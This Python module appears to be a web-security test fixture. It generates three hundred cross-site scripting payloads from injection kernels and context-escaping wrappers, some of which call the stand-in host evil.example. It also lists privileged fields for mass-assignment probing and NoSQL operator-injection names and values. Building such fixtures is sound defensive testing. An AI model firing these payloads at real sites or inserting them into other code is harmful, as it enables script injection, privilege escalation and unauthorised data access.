"""Three hundred texts that tell a careless page to run, load or draw something; and what a form never asked for."""

# What wants to run, load or draw.
KERNELS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert({n})'><text>x</text></a></svg>",
    "<math href='javascript:alert({n})'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert({n})&gt;'>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert({n})&lt;/script&gt;'></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java&#9;script:alert({n})'>x</a>",
    "<form action=//evil.example/{n}><button>Save</button></form>",
    "<button formaction=//evil.example/{n}>Save</button>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}'</style>",
    "<base href=//evil.example/{n}/>",
    "<div hx-get=//evil.example/{n} hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load id=d{n}>x</div>",
    "<div hx-on:htmx:load=alert({n}) hx-disable=false>x</div>",
    "<div hx-vals='js:{{a:alert({n})}}' hx-trigger=load hx-post=/sign-out>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<video><source onerror=alert({n})></video>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
)
# What it hides behind: the end of whatever it was put into, or another way of being read.
WRAPPERS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--><!-- -->{}",
    "]]>{}",
    "</p></section></main>{}",
    "<noscript><p title='</noscript>{}'>",
    "<template>{}</template>",
    "- {}",
)
PAYLOADS = tuple(
    wrapper.format(kernel.format(n=at * len(KERNELS) + number))
    for at, wrapper in enumerate(WRAPPERS)
    for number, kernel in enumerate(KERNELS)
)

# Fields of other forms, of the database and of no form, that would give somebody something if they were taken.
FORBIDDEN = {
    "role": "sen_manager", "state": "final", "status": "signed", "signed_by": "x", "signer": "x", "sign_offs": "x",
    "actor": "x", "by": "x", "by_name": "x", "author": "x", "owner": "x", "authority": "nmr",
    "plan_id": "x", "sequence": "0", "head": "0", "hash": "0", "salt": "0", "audience": "everybody", "grants": "x",
    "is_admin": "true", "confirmed": "yes", "auth_time": "9999999999",
    "acr": "aal3", "since": "2020-01-01", "until": "2099-01-01", "given_by": "x", "_id": "x",
    "approved": "yes", "versions": "1", "at": "2020-01-01",
}  # fmt: skip

# What a database may read as a question, behind the name of a field or in its place ...
OPERATORS = (
    "$ne", "$eq", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$regex", "$where", "$expr", "$exists", "$type", "$or",
    "$and", "$nor", "$not", "$all", "$size", "$elemMatch", "$mod", "$text", "$function", "$accumulator", "$set",
    "$unset", "$inc", "$push", "$pull", "$rename",
)  # fmt: skip
NAMES = (*(f"{{}}[{each}]" for each in OPERATORS), *(f"{{}}.{each}" for each in OPERATORS))
# ... and as its value.
VALUES = (
    *(f'{{"{each}": ""}}' for each in OPERATORS),
    *(f"[{each}]" for each in OPERATORS[:10]),
    *OPERATORS[:10],
    "'; return true; //", "1; sleep(1000)", "this.a == 1", "function() { return true }", "a.b.c", "__proto__",
    "ObjectId('0')", "\\u0024ne", "%24ne", "{'$gt': undefined}",
)  # fmt: skip
